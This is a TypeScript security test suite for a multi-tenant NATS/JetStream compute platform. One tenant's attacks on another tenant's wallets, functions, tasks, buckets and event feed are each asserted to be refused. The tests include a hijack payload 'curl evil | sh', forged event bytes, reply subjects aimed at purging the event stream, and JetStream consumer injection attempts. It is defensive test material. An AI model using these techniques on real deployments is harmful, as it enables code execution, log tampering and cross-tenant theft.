import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { NatsConnection } from 'nats';
import {
  CATEGORIES,
  EVENTS_STREAM,
  GRC,
  LIMITS,
  balanceRequest,
  cancelTaskRequest,
  chargesQuery,
  containerCostRequest,
  deployFunctionRequest,
  functionSpecSchema,
  functionRequest,
  functionsRequest,
  inputBucketOf,
  openWalletRequest,
  outputBucketOf,
  parseAmount,
  pricePlansQuery,
  setPolicyRequest,
  statementRequest,
  submitTaskRequest,
  taskCostRequest,
  taskOutputRequest,
  taskRequest,
  tasksRequest,
  tenantEventsPrefix,
  tenantInboxPrefix,
  tenantSubject,
  walletStandingQuery,
  type TaskDetail,
} from '@mesh/contracts';
import { decodeMessage } from '@mesh/eventstore';
import { MeshClient } from '@mesh/runtime';
import { eventually } from '@mesh/testing';
import { SecurityHarness } from './harness';
import {
  collect,
  concreteSubject,
  expectForbidden,
  expectRefused,
  expectSubscriptionRefused,
  forgedEventBytes,
  meshAs,
  operatorOnlyRequests,
  untilEnded,
} from './tenant-attacks';

/**
 * The cross-tenant attack suite (issue 12): tenant bob, with his real credentials, against tenant
 * alice's wallet, functions, tasks, buckets and feed, on the real stack (auth-enabled nats-server,
 * five service processes). Every attack is refused with an error naming the tenant and the thing,
 * writes no event, and leaves the audit passing and every balance unchanged (harness.expectNoEffect).
 *
 * Where the rest of the attack list is tested (docs/security.md, "Attack suite"):
 * - forged events from a tenant, per category; anonymous connects; operator-only subjects over raw
 *   NATS; another tenant's subjects, inbox and JetStream API: test/security/nats-permissions.spec.ts
 *   (the `test` category, and bob's side, are added below);
 * - marker spoofing (a script printing the end/exit marker): test/integration/container-manager/forgery.spec.ts;
 * - the metadata address (169.254.169.254), the host and other tenants from a network-enabled task:
 *   test/integration/container-manager/network.spec.ts;
 * - tar path traversal (`..`, absolute paths, symlinks in an output) in `mesh task output --out`:
 *   cli/commands/task.spec.ts; an input reference to another owner's bucket at the node:
 *   test/integration/container-manager/lifecycle.spec.ts;
 * - the ledger's HTTP API (this stack runs the ledger with LEDGER_HTTP_PORT=0): bearer tokens,
 *   another tenant's wallet, Host check: test/integration/ledger/tenancy.spec.ts ("over HTTP").
 */
const harness = new SecurityHarness();
const enc = (v: unknown) => new TextEncoder().encode(JSON.stringify(v));

const ALICE_WALLET = 'w-alice';
const BOB_WALLET = 'w-bob';
const ALICE_FN = 'f-alice';
const BOB_FN = 'f-bob';
const PUBLIC_FN = 'f-public';
const ALICE_TASK = 't-alice-1';
/** Burns a core for 2 s (so there are usage samples and charges to hide), then leaves an output file. */
const SCRIPT = `set -u
input="$(cat "$1")"
timeout 2 bash -c 'while :; do :; done'
echo "hello $input" > "$2/result.txt"
echo "done: $input"
`;
const fnSpec = (functionId: string) => ({
  functionId,
  image: 'mesh/task-base:latest',
  script: SCRIPT,
  cpuInitialMillis: 1000,
  memoryBytes: 64 * 1024 * 1024,
  timeoutMs: 120_000,
  maxAttempts: 2,
});

describe('cross-tenant attacks: bob, with his own credentials, against alice', () => {
  let aliceNc: NatsConnection;
  let bobNc: NatsConnection;
  let alice: MeshClient;
  let bob: MeshClient;
  /** Bob's connection asking on the operator's subjects (mesh.api.*, mesh.query.*): NATS refuses the publish. */
  let bobAsOperator: MeshClient;
  let aliceFeed: ReturnType<typeof collect>;
  let aliceTask: TaskDetail;

  beforeAll(async () => {
    await harness.start(['alice', 'bob']);
    aliceNc = await harness.connectAs({ kind: 'tenant', tenantId: 'alice' });
    bobNc = await harness.connectAs({ kind: 'tenant', tenantId: 'bob' });
    alice = new MeshClient(aliceNc, 20_000, 'alice');
    bob = new MeshClient(bobNc, 20_000, 'bob');
    bobAsOperator = new MeshClient(bobNc, 5_000);
    aliceFeed = collect(aliceNc, `${tenantEventsPrefix('alice')}.>`);
    await aliceNc.flush();
    // Each tenant opens its own wallet; only the operator can put money in it.
    await alice.request(openWalletRequest, { walletId: ALICE_WALLET });
    await bob.request(openWalletRequest, { walletId: BOB_WALLET });
    const operator = harness.stack.client;
    await operator.requestRaw('mesh.api.ledger.deposit', { walletId: ALICE_WALLET, amount: '10', reference: 'seed-alice' });
    await operator.requestRaw('mesh.api.ledger.deposit', { walletId: BOB_WALLET, amount: '10', reference: 'seed-bob' });
    await operator.request(deployFunctionRequest, fnSpec(PUBLIC_FN));
    await bob.request(deployFunctionRequest, fnSpec(BOB_FN));
  }, 300_000);
  afterAll(async () => {
    await harness.stop();
  }, 60_000);

  describe('the positive path: alice runs a task end to end with her own credentials', () => {
    it('deploys her function, submits on her operator-funded wallet, the task succeeds and is charged to her', async () => {
      const deployed = await alice.request(deployFunctionRequest, fnSpec(ALICE_FN));
      expect(deployed).toMatchObject({ functionId: ALICE_FN, tenantId: 'alice' });
      const submitted = await alice.request(submitTaskRequest, {
        functionId: ALICE_FN,
        walletId: ALICE_WALLET,
        taskId: ALICE_TASK,
        input: { inline: Buffer.from('alice').toString('base64') },
      });
      expect(submitted).toMatchObject({ taskId: ALICE_TASK, state: 'pending' });
      aliceTask = await untilEnded(() => alice.request(taskRequest, { taskId: ALICE_TASK }));
      expect(aliceTask).toMatchObject({ state: 'succeeded', walletId: ALICE_WALLET, outputRef: expect.anything() as unknown });
      // Charged to her wallet (the charges are what bob must not read below).
      const cost = await eventually(
        async () => {
          const c = await alice.request(taskCostRequest, { taskId: ALICE_TASK });
          return c.charges > 0 ? c : undefined;
        },
        120_000,
        "alice's task charged",
      );
      expect(cost.walletId).toBe(ALICE_WALLET);
      // Her container stops after IDLE_TIMEOUT_MS: awaited, so that no event of hers lands during the attacks below.
      await eventually(
        () => aliceFeed.messages.some((m) => m.body.type === 'ContainerStopped' && m.body.stream === `container-${aliceTask.containerId}`),
        120_000,
        "alice's container stopped",
      );
      const balance = await alice.request(balanceRequest, { walletId: ALICE_WALLET });
      expect(parseAmount(balance.balance, GRC, { allowNegative: true })).toBeLessThan(parseAmount('10', GRC));
    }, 400_000);

    it("her feed carries her own events (wallet, function, task) and none of bob's", async () => {
      const streams = await eventually(
        () => {
          const s = new Set(aliceFeed.messages.map((m) => m.body.stream));
          return s.has(`task-${ALICE_TASK}`) && aliceFeed.messages.some((m) => m.body.type === 'TaskSucceeded') ? s : undefined;
        },
        60_000,
        "alice's task events on her feed",
      );
      expect([...streams]).toEqual(expect.arrayContaining([`wallet-${ALICE_WALLET}`, `function-${ALICE_FN}`, `task-${ALICE_TASK}`]));
      expect([...streams].filter((s) => s?.includes('bob') || s === `function-${PUBLIC_FN}`)).toEqual([]);
      expect(aliceFeed.messages.every((m) => m.subject.startsWith(`${tenantEventsPrefix('alice')}.`))).toBe(true);
    });

    it('she reads her task with `mesh --creds <alice> task get`', async () => {
      const got = await meshAs(harness, 'alice', '--json', 'task', 'get', ALICE_TASK);
      expect(got).toMatchObject({ code: 0 });
      expect(JSON.parse(got.out)).toMatchObject({ taskId: ALICE_TASK, state: 'succeeded', walletId: ALICE_WALLET });
    });

    // The container-manager writes a tenant's outputs to its own bucket (outputBucketOf(tenantId));
    // the CLI reads it through the scheduler's task-output query (tenants have no JetStream access).
    it('she reads her output with `mesh --creds <alice> task output`, from her own output bucket, through the scheduler', async () => {
      expect(aliceTask.outputRef?.bucket).toBe(outputBucketOf('alice'));
      const out = await meshAs(harness, 'alice', '--json', 'task', 'output', ALICE_TASK);
      expect(out).toMatchObject({ code: 0 });
      expect(JSON.parse(out.out)).toMatchObject({
        taskId: ALICE_TASK,
        files: [expect.stringMatching(/result\.txt$/) as string],
        stdout: expect.stringContaining('done: alice') as string,
      });
    });
  });

  describe("every cross-tenant command and query is refused, naming bob and alice's thing", () => {
    it("the ledger: balance, statement, policy, open, task and container cost of alice's", async () => {
      await harness.expectNoEffect(async () => {
        await expectForbidden(bob.request(balanceRequest, { walletId: ALICE_WALLET }), /^forbidden: tenant bob may not read wallet w-alice$/);
        await expectForbidden(bob.request(statementRequest, { walletId: ALICE_WALLET }), /^forbidden: tenant bob may not read wallet w-alice$/);
        await expectForbidden(
          bob.request(setPolicyRequest, { walletId: ALICE_WALLET, maxDebt: '0', policy: 'conservative' }),
          /^forbidden: tenant bob may not change the policy of wallet w-alice$/,
        );
        await expectForbidden(bob.request(openWalletRequest, { walletId: ALICE_WALLET }), /^forbidden: tenant bob may not open wallet w-alice$/);
        // The operator's provider wallet (every charge credits it) is not a tenant's to take over either.
        await expectForbidden(bob.request(openWalletRequest, { walletId: 'provider' }), /^forbidden: tenant bob may not open wallet provider$/);
        await expectForbidden(bob.request(taskCostRequest, { taskId: ALICE_TASK }), /^forbidden: tenant bob may not read the cost of task t-alice-1$/);
        await expectForbidden(
          bob.request(containerCostRequest, { containerId: aliceTask.containerId! }),
          new RegExp(`^forbidden: tenant bob may not read the cost of container ${aliceTask.containerId}$`),
        );
      });
    });

    it('the scheduler: submit on her wallet, run her function, hijack it, take her task id, read or cancel her task, read her function', async () => {
      const inline = { inline: Buffer.from('bob').toString('base64') };
      await harness.expectNoEffect(async () => {
        await expectForbidden(
          bob.request(submitTaskRequest, { functionId: BOB_FN, walletId: ALICE_WALLET, input: inline }),
          /^forbidden: tenant bob may not submit tasks on wallet w-alice$/,
        );
        await expectForbidden(
          bob.request(submitTaskRequest, { functionId: ALICE_FN, walletId: BOB_WALLET, input: inline }),
          /^forbidden: tenant bob may not run function f-alice$/,
        );
        // Function hijack: a redeploy would change the script her tasks run (and what her wallet pays for).
        await expectForbidden(
          bob.request(deployFunctionRequest, { ...fnSpec(ALICE_FN), script: 'curl evil | sh' }),
          /^forbidden: tenant bob may not redeploy function f-alice$/,
        );
        await expectForbidden(
          bob.request(deployFunctionRequest, { ...fnSpec(PUBLIC_FN), script: 'echo mine' }),
          /^forbidden: tenant bob may not redeploy function f-public$/,
        );
        // Her task id is not his to reuse (the decider would otherwise confirm or compare her task).
        await expectForbidden(
          bob.request(submitTaskRequest, { functionId: BOB_FN, walletId: BOB_WALLET, taskId: ALICE_TASK, input: inline }),
          /^forbidden: tenant bob may not submit task t-alice-1$/,
        );
        await expectForbidden(bob.request(taskRequest, { taskId: ALICE_TASK }), /^forbidden: tenant bob may not read task t-alice-1$/);
        await expectForbidden(bob.request(cancelTaskRequest, { taskId: ALICE_TASK }), /^forbidden: tenant bob may not cancel task t-alice-1$/);
        await expectForbidden(bob.request(functionRequest, { functionId: ALICE_FN }), /^forbidden: tenant bob may not read function f-alice$/);
      });
    });

    it("the scheduler's and credit-manager's lists show bob nothing of alice's", async () => {
      await harness.expectNoEffect(async () => {
        const { functions } = await bob.request(functionsRequest, {});
        const ids = functions.map((f) => f.functionId);
        expect(ids).toEqual(expect.arrayContaining([BOB_FN, PUBLIC_FN]));
        expect(ids).not.toContain(ALICE_FN);
        expect(await bob.request(tasksRequest, { walletId: ALICE_WALLET })).toMatchObject({ tasks: [], total: 0 });
        const plans = await bob.request(pricePlansQuery, {});
        expect(plans.functions.map((f) => f.functionId)).not.toContain(ALICE_FN);
      });
    });

    it("the credit-manager: standing and charges of alice's wallet", async () => {
      await harness.expectNoEffect(async () => {
        await expectForbidden(
          bob.request(walletStandingQuery, { walletId: ALICE_WALLET }),
          /^forbidden: tenant bob may not read the standing of wallet w-alice$/,
        );
        await expectForbidden(bob.request(chargesQuery, { taskId: ALICE_TASK }), /^forbidden: tenant bob may not read the charges of wallet w-alice$/);
        await expectForbidden(
          bob.request(chargesQuery, { containerId: aliceTask.containerId! }),
          /^forbidden: tenant bob may not read the charges of wallet w-alice$/,
        );
      });
    });

    it('through the CLI with his credentials file: the same refusals, exit code 1, the message on stderr', async () => {
      await harness.expectNoEffect(async () => {
        const attempts: [string[], RegExp][] = [
          [['wallet', 'balance', ALICE_WALLET], /forbidden: tenant bob may not read wallet w-alice/],
          [['wallet', 'statement', ALICE_WALLET], /forbidden: tenant bob may not read wallet w-alice/],
          [['task', 'get', ALICE_TASK], /forbidden: tenant bob may not read task t-alice-1/],
          [['task', 'cancel', ALICE_TASK], /forbidden: tenant bob may not cancel task t-alice-1/],
          [['task', 'output', ALICE_TASK], /forbidden: tenant bob may not read task t-alice-1/],
          [['task', 'submit', ALICE_FN, '--wallet', BOB_WALLET, '--input-text', 'x'], /forbidden: tenant bob may not run function f-alice/],
        ];
        for (const [args, message] of attempts) {
          const run = await meshAs(harness, 'bob', ...args);
          expect({ args, code: run.code, err: run.err }).toEqual({ args, code: 1, err: expect.stringMatching(message) as string });
        }
      });
    });
  });

  describe('operator-only requests and limits', () => {
    it('every operator-only request (money movements, repricing, earnings, totals, audit, replays, nodes, pools, storage, health) is refused by NATS', async () => {
      const subjects = operatorOnlyRequests().map(concreteSubject);
      expect(subjects).toEqual(
        expect.arrayContaining([
          'mesh.api.ledger.deposit',
          'mesh.api.ledger.adjust',
          'mesh.api.ledger.withdraw',
          'mesh.api.credit-manager.set-price-plan',
          'mesh.query.ledger.provider-earnings',
          'mesh.query.ledger.totals',
          'mesh.query.ledger.audit',
          'mesh.api.ledger.deadletter-replay.some_consumer',
          'mesh.query.scheduler.nodes',
          'mesh.query.scheduler.pools',
          'mesh.query.scheduler.storage',
        ]),
      );
      await harness.expectNoEffect(async () => {
        // Repricing the default plan, with a body that would be valid from the operator.
        await expectForbidden(
          bobAsOperator.requestRaw('mesh.api.credit-manager.set-price-plan', {
            planId: 'default',
            cpuPerCoreHour: '0.000001',
            memoryPerGibHour: '0',
            billing: 'used',
          }),
          /NATS permissions/,
        );
        for (const subject of subjects) {
          await expectForbidden(
            bobAsOperator.requestRaw(subject, { walletId: BOB_WALLET, amount: '1000', reference: 'steal' }),
            /^forbidden: this identity may not publish to .* \(NATS permissions\)$/,
          );
          // His own tenant copy of the subject passes NATS, but no service answers an operator-only request there.
          await expectRefused(
            bob.requestRaw(tenantSubject('bob', subject), { walletId: BOB_WALLET, amount: '1000', reference: 'steal' }, 5_000),
            'no_responders',
            /no service answers/,
          );
        }
      });
    });

    it('repricing through a deploy: a tenant may not choose a price plan, for a new function nor for its own', async () => {
      await harness.expectNoEffect(async () => {
        await expectForbidden(
          bob.request(deployFunctionRequest, { ...fnSpec('f-bob-cheap'), pricePlanId: 'default' }),
          /^forbidden: tenant bob may not choose pricePlanId default for function f-bob-cheap/,
        );
        await expectForbidden(
          bob.request(deployFunctionRequest, { ...fnSpec(BOB_FN), pricePlanId: 'free' }),
          /^forbidden: tenant bob may not choose pricePlanId free for function f-bob/,
        );
      });
    });

    it('maxDebt escalation: above TENANT_MAX_DEBT_CEILING (10) at set-policy and open-wallet, naming the field; no provider wallet', async () => {
      await harness.expectNoEffect(async () => {
        const tooMuch = await expectRefused(
          bob.request(setPolicyRequest, { walletId: BOB_WALLET, maxDebt: '1000000' }),
          'invalid_input',
          /maxDebt: must be at most 10(\.0+)? GRC for a tenant \(TENANT_MAX_DEBT_CEILING\)/,
        );
        expect(tooMuch.issues).toEqual([expect.objectContaining({ field: 'maxDebt' })]);
        await expectRefused(
          bob.request(openWalletRequest, { walletId: 'w-bob-deep', maxDebt: '10.01' }),
          'invalid_input',
          /maxDebt: .*TENANT_MAX_DEBT_CEILING/,
        );
        await expectForbidden(
          bob.request(openWalletRequest, { walletId: 'w-bob-provider', kind: 'provider' }),
          /^forbidden: tenant bob may not open provider wallets$/,
        );
      });
    });

    it('the CLI as a tenant: `mesh wallet deposit` on his own wallet is refused, not performed', async () => {
      await harness.expectNoEffect(async () => {
        const run = await meshAs(harness, 'bob', 'wallet', 'deposit', BOB_WALLET, '5');
        expect(run.code).toBe(1);
        // The CLI sends it on bob's own subjects, where no service answers an operator-only request.
        expect(run.err).toMatch(/no service answers mesh\.tenant\.bob\.api\.ledger\.deposit|forbidden/);
      });
    });
  });

  describe("object references and buckets: bob reaches none of alice's objects", () => {
    it("a task input in alice's input bucket, any output bucket, or another owner's, is refused at submit", async () => {
      // An object alice really has (stored for her as the scheduler stores a large inline input), so only the reference is wrong.
      const aliceInputs = await harness.stack.store.connection.jetstream().views.os(inputBucketOf('alice'));
      await aliceInputs.putBlob({ name: 'secret-in' }, new TextEncoder().encode('alice only'));
      await harness.expectNoEffect(async () => {
        for (const bucket of [inputBucketOf('alice'), outputBucketOf('alice'), 'mesh-output', inputBucketOf('operator'), `mesh-input-${PUBLIC_FN}`]) {
          await expectForbidden(
            bob.request(submitTaskRequest, { functionId: BOB_FN, walletId: BOB_WALLET, input: { objectRef: { bucket, key: 'secret-in' } } }),
            new RegExp(`^forbidden: tenant bob may not read bucket ${bucket}: a tenant's task input must be in its own input bucket mesh-input-bob$`),
          );
        }
      });
    });

    it("alice's objects, in her buckets or in the shared output bucket, cannot be read or listed by bob: tenants have no JetStream", async () => {
      const objects: [string, string][] = [
        [inputBucketOf('alice'), 'secret-in'],
        [outputBucketOf('alice'), aliceTask.outputRef!.key],
        [aliceTask.outputRef!.bucket, aliceTask.outputRef!.key],
        ['mesh-output', aliceTask.outputRef!.key],
      ];
      await harness.expectNoEffect(async () => {
        for (const [bucket, key] of objects) {
          await expect((async () => (await bobNc.jetstream().views.os(bucket)).getBlob(key))()).rejects.toThrow(/permission/i);
          await expect((async () => (await bobNc.jetstream().views.os(bucket)).list())()).rejects.toThrow(/permission/i);
          for (const subject of [`$JS.API.DIRECT.GET.OBJ_${bucket}`, `$JS.API.STREAM.MSG.GET.OBJ_${bucket}`, `$JS.API.CONSUMER.CREATE.OBJ_${bucket}`]) {
            await expect(bobNc.request(subject, enc({ seq: 1 }), { timeout: 2000 })).rejects.toThrow(/permission/i);
          }
        }
        // Through the scheduler, the only way to an output: owner-checked.
        await expectForbidden(bob.request(taskOutputRequest, { taskId: ALICE_TASK }), /^forbidden: tenant bob may not read task t-alice-1$/);
      });
    });
  });

  describe("events: bob writes none and reads none of alice's", () => {
    it('no event of any category, on his connection (nats-permissions.spec.ts covers alice on all but `test`)', async () => {
      await harness.expectNoEffect(async () => {
        for (const category of CATEGORIES) {
          const { payload, headers } = forgedEventBytes(`${category}-x`, 'FundsDeposited', { walletId: BOB_WALLET, amount: '1000', reference: 'forged' });
          await expect(bobNc.jetstream().publish(`mesh.events.${category}.x`, payload, { headers, timeout: 2000 })).rejects.toThrow(/permission|timeout|503/i);
        }
      });
    });

    it("bob's subscription to alice's feed, or anyone's inbox, is refused by NATS", async () => {
      for (const subject of [
        `${tenantEventsPrefix('alice')}.>`,
        `${tenantEventsPrefix('alice')}.wallet.${ALICE_WALLET}`,
        `${tenantInboxPrefix('alice')}.>`,
        'mesh.tenant.*.events.>',
      ]) {
        await expectSubscriptionRefused(await harness.connectAs({ kind: 'tenant', tenantId: 'bob' }), subject);
      }
    });
  });

  describe('reply subjects: a tenant chooses where an answer goes', () => {
    // A service answers under its own identity (allow_responses), which nats-server lets publish to
    // whatever reply subject the request named, past the service's allow and deny lists. The runtime
    // therefore answers a tenant's request only on that tenant's inbox (libs/runtime/src/transport.ts
    // replyAllowed): anything else is neither run nor answered.
    it('a service does not answer (nor run) a tenant request whose reply would purge the log, write an event or reach another tenant', async () => {
      await harness.expectNoEffect(async () => {
        const attacks: [string, unknown, string][] = [
          [tenantSubject('bob', 'mesh.query.scheduler.functions'), {}, `$JS.API.STREAM.PURGE.${EVENTS_STREAM}`],
          [tenantSubject('bob', 'mesh.query.ledger.balance'), { walletId: BOB_WALLET }, `$JS.API.STREAM.DELETE.${EVENTS_STREAM}`],
          [tenantSubject('bob', 'mesh.query.ledger.balance'), { walletId: BOB_WALLET }, `mesh.events.wallet.${ALICE_WALLET}`],
          [tenantSubject('bob', 'mesh.api.ledger.open-wallet'), { walletId: 'w-bob-reply' }, `mesh.events.wallet.w-bob-reply`],
          [tenantSubject('bob', 'mesh.query.credit-manager.price-plans'), {}, `${tenantInboxPrefix('alice')}.x`],
          // The ledger may publish on every tenant's feed: an answer there would be a fake event in alice's feed.
          [tenantSubject('bob', 'mesh.query.ledger.balance'), { walletId: BOB_WALLET }, `${tenantEventsPrefix('alice')}.wallet.${ALICE_WALLET}`],
        ];
        for (const [subject, body, reply] of attacks) bobNc.publish(subject, enc(body), { reply });
        await bobNc.flush();
        // Each service handles a connection's messages in order: an answered request after them shows they were handled (or dropped).
        await bob.request(functionsRequest, {});
        await bob.request(balanceRequest, { walletId: BOB_WALLET });
        await bob.request(pricePlansQuery, {});
      });
      await aliceNc.flush();
      expect(aliceFeed.messages.filter((m) => 'ok' in m.body)).toEqual([]);
      // The command was not run either: bob has no wallet w-bob-reply.
      await expectForbidden(bob.request(balanceRequest, { walletId: 'w-bob-reply' }), /^forbidden: tenant bob may not read wallet w-bob-reply$/);
      expect(harness.stack.logs()).toMatch(/refused a request of tenant bob whose reply subject \$JS\.API\.STREAM\.PURGE\.MESH_EVENTS is not its inbox/);
    });

    // JetStream answers an API request, a pull request (`CONSUMER.MSG.NEXT`) and a push consumer's
    // deliveries on the subject the requester names, from the server's own client, with no permission
    // check on it, and MESH_EVENTS stores what arrives on `mesh.events.>`. With any JetStream access a
    // tenant appended messages to the log (a direct get or MSG.NEXT of an object chunk: a byte-exact
    // event of any category, e.g. a FunctionDeployed giving bob alice's function). Tenants therefore
    // have no JetStream access at all (permissions.ts tenantPermissions); these attacks stay as the proof.
    it("bob's bytes in his own input bucket (a large inline input the scheduler stored) cannot be delivered onto the log: every JetStream API request of his is refused", async () => {
      const current = await harness.stack.client.request(functionRequest, { functionId: ALICE_FN });
      const spec = functionSpecSchema.parse({ ...current, version: current.version + 1, script: 'echo pwned', tenantId: 'bob' });
      const forged = forgedEventBytes(`function-${ALICE_FN}`, 'FunctionDeployed', spec, current.version);
      // JSON allows trailing whitespace: padded past what an event carries inline, so the scheduler stores it as an object.
      const bytes = Buffer.concat([Buffer.from(forged.payload), Buffer.alloc(LIMITS.inlineInputBytesMax + 1, ' ')]);
      const key = `sha256-${createHash('sha256').update(bytes).digest('hex')}`;
      const bucket = inputBucketOf('bob');
      const stream = `OBJ_${bucket}`;
      const target = `mesh.events.function.${ALICE_FN}`;
      await harness.expectNoEffect(async () => {
        // The submit is refused (alice's task id) after the input was stored: the bytes are in his bucket, no event was written.
        await expectForbidden(
          bob.request(submitTaskRequest, { functionId: BOB_FN, walletId: BOB_WALLET, taskId: ALICE_TASK, input: { inline: bytes.toString('base64') } }),
          /^forbidden: tenant bob may not submit task t-alice-1$/,
        );
        const stored = await harness.stack.store.connection.jetstream().views.os(bucket);
        expect((await stored.info(key))?.size).toBe(bytes.length);
        const attacks: [string, unknown][] = [
          [`$JS.API.STREAM.INFO.${stream}`, {}],
          [`$JS.API.DIRECT.GET.${stream}`, { last_by_subj: `$O.${bucket}.C.>` }],
          [`$JS.API.STREAM.MSG.GET.${stream}`, { seq: 1 }],
          [`$JS.API.CONSUMER.CREATE.${stream}`, { stream_name: stream, config: { deliver_subject: target, ack_policy: 'none', deliver_policy: 'all' } }],
          [
            `$JS.API.CONSUMER.DURABLE.CREATE.${stream}.steal`,
            { stream_name: stream, config: { durable_name: 'steal', ack_policy: 'none', deliver_policy: 'all' } },
          ],
          [`$JS.API.CONSUMER.MSG.NEXT.${stream}.steal`, { batch: 1 }],
        ];
        for (const [subject, body] of attacks) {
          await expect(bobNc.request(subject, enc(body), { timeout: 2000 })).rejects.toThrow(/permission/i);
          // The same with the reply on the log: NATS refuses the publish itself, so JetStream never sees it.
          bobNc.publish(subject, enc(body), { reply: target });
        }
        await bobNc.flush();
        await bob.request(functionsRequest, {});
      });
      const violations = await eventually(
        () => {
          const v = harness.violations().join('\n');
          return /CONSUMER\.MSG\.NEXT\.OBJ_mesh-input-bob\.steal/.test(v) ? v : undefined;
        },
        30_000,
        "nats-server's violation lines for bob's JetStream requests",
      );
      expect(violations).toMatch(/CONSUMER\.MSG\.NEXT\.OBJ_mesh-input-bob\.steal/);
      const jsm = await harness.stack.store.connection.jetstreamManager();
      const last = await jsm.streams.getMessage(EVENTS_STREAM, { last_by_subj: target });
      expect(decodeMessage({ data: last.data, seq: last.seq, subject: last.subject, headers: last.header })).toMatchObject({
        type: 'FunctionDeployed',
        data: { tenantId: 'alice', script: SCRIPT },
      });
      await expectForbidden(bob.request(functionRequest, { functionId: ALICE_FN }), /^forbidden: tenant bob may not read function f-alice$/);
    });

    // Was `it.failing` while tenants had JetStream access (the JSON answers of the API landed in the
    // log as poison): NATS now refuses the request itself.
    it('JetStream does not answer a tenant API request on a subject of the event log: NATS refuses the request', async () => {
      await harness.expectNoEffect(async () => {
        await expect(bobNc.request(`$JS.API.STREAM.MSG.GET.OBJ_${inputBucketOf('bob')}`, enc({ seq: 1 }), { timeout: 2000 })).rejects.toThrow(/permission/i);
        bobNc.publish(`$JS.API.STREAM.MSG.GET.OBJ_${inputBucketOf('bob')}`, enc({ seq: 1 }), { reply: 'mesh.events.test.forged' });
        bobNc.publish('$JS.API.INFO', enc({}), { reply: 'mesh.events.test.forged' });
        await bobNc.flush();
        await bob.request(functionsRequest, {});
      });
    });
  });

  // Last: its container is still idle when the suite ends (nothing after it compares the log).
  describe('the positive path, continued: a large input, inline', () => {
    it('she submits an input larger than an event carries with `mesh --creds <alice> task submit --input`: sent inline, stored by the scheduler in her input bucket, her task reads it', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'mesh-attack-'));
      const file = join(dir, 'big-input');
      writeFileSync(file, 'a'.repeat(LIMITS.inlineInputBytesMax + 1));
      const run = await meshAs(
        harness,
        'alice',
        '--json',
        'task',
        'submit',
        ALICE_FN,
        '--wallet',
        ALICE_WALLET,
        '--input',
        file,
        '--id',
        't-alice-big',
        '--wait',
      );
      expect({ code: run.code, err: run.err }).toEqual({ code: 0, err: expect.not.stringContaining('stored in object store') as string });
      expect(JSON.parse(run.out)).toMatchObject({ taskId: 't-alice-big', state: 'succeeded' });
      const [submitted] = await harness.stack.store.read('task-t-alice-big');
      expect(submitted).toMatchObject({ type: 'TaskSubmitted', data: { tenantId: 'alice', input: { objectRef: { bucket: inputBucketOf('alice') } } } });
      // Above what a request carries: refused by the CLI, naming the limit, before anything is sent.
      const huge = join(dir, 'huge-input');
      writeFileSync(huge, 'a'.repeat(LIMITS.requestInputBytesMax + 1));
      const refused = await meshAs(harness, 'alice', 'task', 'submit', ALICE_FN, '--wallet', ALICE_WALLET, '--input', huge, '--id', 't-alice-huge');
      expect(refused.code).not.toBe(0);
      expect(refused.err).toContain(`more than LIMITS.requestInputBytesMax=${LIMITS.requestInputBytesMax} bytes`);
    });
  });
});
